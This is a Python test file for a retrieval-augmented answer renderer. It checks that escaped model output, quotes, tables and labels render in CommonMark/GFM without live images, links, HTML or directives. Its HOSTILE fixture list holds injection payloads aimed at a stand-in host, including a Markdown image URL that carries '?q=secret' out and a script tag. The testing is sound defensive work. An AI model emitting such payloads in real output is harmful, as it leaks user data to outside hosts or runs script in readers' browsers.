"""Untrusted text renders as text: answers, quotes, highlights, tables, labels, stored answers.

Each output goes through a real CommonMark renderer (markdown-it-py, with GFM tables and
strike-through, raw HTML enabled as a browser would see it) and must hold no image, link or
HTML tag of its own. Streamlit's GFM also turns bare URLs in text into links *after* escapes
are resolved; ``autolinked`` applies that rule (mdast-util-gfm-autolink-literal) to the
rendered text.
"""

from __future__ import annotations

import html
import re
import unicodedata

import pytest
from markdown_it import MarkdownIt

from rag.answer.render import (
    UNVERIFIED,
    highlight,
    render_answer,
    render_quotes,
    table_markdown,
)
from rag.answer.verdict import SentenceCheck, Verification
from rag.text.markup import escape_line, escape_markdown, inert_markdown, strip_markup

COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LAYOUT_TAGS = {"p", "ul", "ol", "li", "em", "strong", "s", "br", "blockquote", "code"}
LAYOUT_TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
WORD_JOINER = "\u2060"

HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "[link](http://evil.example)",
    "<img src=http://evil.example/a.png>",
    "<script>alert(1)</script>",
    "<http://evil.example/auto>",
    "see http://evil.example/bare and www.evil.example now",
    ":red[alarm] :orange-background[fake] :material/warning:",
    "$x^2$ and $$y$$",
    "[r]: http://evil.example/ref.png",
    "![r][r] and [r][r]",
    "&lt;img src=x&gt; &#33;[x](http://evil.example/e)",
    "`code` **bold** ~~gone~~ _it_",
    "# heading",
    "1. item",
    "back\\slash \\![x](http://evil.example/b)",
]


def tags(md: str) -> set[str]:
    """The HTML tags a CommonMark renderer makes of ``md``."""
    return {t.lower() for t in re.findall(r"<([a-zA-Z][\w-]*)", COMMONMARK.render(md))}


def shown(md: str) -> str:
    """The text a reader sees (tags dropped, entities decoded, word joiners removed)."""
    text = html.unescape(re.sub(r"<[^>]+>", " ", COMMONMARK.render(md)))
    return text.replace(WORD_JOINER, "")


def autolinked(md: str) -> list[str]:
    """Bare URLs GFM would turn into links: ``http(s)://`` or ``www.`` after a boundary."""
    text = html.unescape(re.sub(r"<[^>]+>", " ", COMMONMARK.render(md)))
    found = []
    for m in re.finditer(r"(?i)https?://|www\.", text):
        before = text[m.start() - 1] if m.start() else " "
        if before != "/" and (before.isspace() or unicodedata.category(before)[0] in "PS"):
            found.append(text[m.start() : m.start() + 30])
    return found


def live(md: str) -> str:
    """What Markdown syntax sees: ``md`` with every backslash escape taken out."""
    return re.sub(r"\\.", "", md, flags=re.S)


def assert_inert(md: str) -> None:
    assert tags(md) <= LAYOUT_TAGS, (tags(md) - LAYOUT_TAGS, md)
    assert not autolinked(md), (autolinked(md), md)
    rest = live(md)
    assert "$" not in rest, md  # no formula
    directives = re.findall(r":[a-z][a-z0-9-]*\[", rest)
    assert set(directives) <= {":orange-background["}, md  # only the app's highlight


def check(sentence: str, **kwargs) -> SentenceCheck:
    fields = dict(text=sentence, claim=sentence, cited=[1], supported=True, score=0.9,
                  passage=1, evidence="e")  # fmt: skip
    return SentenceCheck(**(fields | kwargs))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_answers_show_model_text_as_text_with_live_citations(hostile):
    v = Verification(
        [
            check(f"Leave is 25 days {hostile}."),
            check(f"Also {hostile}.", reason="computed from [1]"),
            check(f"Note {hostile} [2]:", cited=[2], is_claim=False, lead="paragraph"),
            check(f"Staff fly {hostile}.", supported=False, cited=[], passage=None),
            check(f"Book {hostile}", lead="-"),
        ],
        0.8,
    )
    md = render_answer(v, mode="flag")
    assert_inert(md)
    text = " ".join(shown(md).split())
    plain = " ".join(hostile.split())
    if "&" not in hostile:  # entities are shown as written, i.e. undecoded
        assert f"Leave is 25 days {plain} [1]." in text
        # an exempt sentence loses its emphasis; the model's own marker shows as text
        assert strip_markup(f"Note {plain} [2]:") in text
    assert "(computed from [1])" in text
    assert f"{UNVERIFIED} ~~" in md and "<s>" in COMMONMARK.render(md)  # struck through
    assert re.search(r"(?<!\\)\[1\]\.", md)  # the verified marker is the app's, live
    assert "<li>" in COMMONMARK.render(md)  # the list item keeps its layout
    assert_inert(render_answer(v, mode="remove"))


def test_a_sentence_keeps_its_closing_punctuation_readable():
    v = Verification([check("Steps:", is_claim=False), check("1.", supported=False)], 0.0)
    md = render_answer(v)
    assert md.startswith("Steps:")
    assert "~~1\\.~~" in md  # "1." alone would start a list
    assert tags(render_answer(Verification([check("1.", is_claim=False)], 1.0))) == {"p"}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_quotes_highlights_and_tables_show_document_text_as_text(hostile):
    quoted = render_quotes([(f"The fee is $5 {hostile} today.", 1), (f"{hostile}", 2)])
    assert_inert(quoted)
    assert re.search(r"(?<!\\)\[2\]$", quoted)

    passage = f"Intro {hostile}.\nThe fee is {hostile} today. Last line."
    marked = highlight(passage, f"The fee is {hostile} today.")
    assert_inert(marked)
    assert live(marked).count(":orange-background[") == 1  # the app's highlight is live

    table = table_markdown([f"{hostile} | {hostile}: 5 | 2023: 6"])
    assert_inert(table)
    assert tags(table) >= {"table", "td"}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_labels_and_one_line_fields_are_escaped(hostile):
    label = escape_line(f"policy {hostile}\n\nsection")
    assert "\n" not in label
    assert_inert(label)
    if "&" not in hostile and "\\" not in hostile:
        assert " ".join(hostile.split()) in shown(label)
    assert escape_line("x" * 80, limit=60) == "x" * 59 + "…"


def test_every_prefix_of_a_streamed_draft_is_inert():
    # The Ask page escapes the whole draft again as each piece arrives: every prefix shown must
    # be safe, including one cut inside a URL or right after a backslash.
    draft = "Done \\![x](http://evil.example/?q=secret) and <img src=http://e.x/a.png> [1]."
    for cut in range(len(draft) + 1):
        assert_inert(escape_markdown(draft[:cut]))


LEGACY = (
    "From the documents:\n"
    "1. Leave is 25 days ![x](http://evil.example/p.png) [1].\n"
    "2. See [here](http://evil.example) and <img src=x> or <http://evil.example> [2].\n\n"
    "[here]: http://evil.example/ref\n\n"
    f"{UNVERIFIED} ~~Visit www.evil.example or http://evil.example/bare~~ "
    "*(computed from [1])* :red[x]\n\n"
    "| a | b |\n| --- | --- |\n| 1 | ![t](http://evil.example/t.png) |"
)


def test_stored_answers_keep_their_layout_but_nothing_live():
    md = inert_markdown(LEGACY)
    assert_inert(md)
    assert {"ol", "li", "s", "em", "table"} <= tags(md)
    text = shown(md)
    assert "![x](http://evil.example/p.png) [1]" in text
    assert "(computed from [1])" in text


def test_stored_answers_written_escaped_render_unchanged():
    v = Verification([check("Leave is 25 days ![x](http://evil.example/?q=1)."),
                      check("Fly http://x.example.", supported=False)], 0.5)  # fmt: skip
    md = render_answer(v)
    assert COMMONMARK.render(inert_markdown(md)) == COMMONMARK.render(md)
    assert inert_markdown(inert_markdown(md)) == inert_markdown(md)
